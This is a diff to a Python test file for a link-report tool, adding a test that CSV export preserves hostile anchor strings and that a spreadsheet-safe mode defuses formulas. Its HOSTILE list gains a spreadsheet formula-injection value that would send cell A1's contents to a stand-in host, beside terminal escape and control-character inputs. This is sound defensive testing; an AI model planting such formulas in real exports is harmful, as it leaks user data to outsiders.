@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import datetime, timedelta, timezone
 
@@ -17,6 +19,7 @@ HOSTILE = [
     "\x1b]8;;http://e.x\x1b\\go\x1b]8;;\x1b\\",  # an OSC 8 hyperlink
     "nul\x00byte",
     "\u202eevil",
+    '=HYPERLINK("http://x.example/?"&A1,"win")',
 ]
 
 
@@ -60,3 +63,11 @@ def test_report_json_keeps_the_exact_strings(db):
     assert {row["target_url"] for row in profile["top_target_pages"]} == {
         f"https://{TARGET}/[/]{n}" for n in range(len(HOSTILE))
     }
+
+
+def test_export_csv_round_trips_and_spreadsheet_safe_defuses_formulas(db):
+    _store(db)
+    plain = list(csv.DictReader(io.StringIO(cli(db, "export", TARGET).stdout)))
+    assert {row["anchor"] for row in plain} == set(HOSTILE)  # the data as stored
+    safe = list(csv.DictReader(io.StringIO(cli(db, "export", TARGET, "--spreadsheet-safe").stdout)))
+    assert {row["anchor"] for row in safe} == {*HOSTILE[:-1], "'" + HOSTILE[-1]}
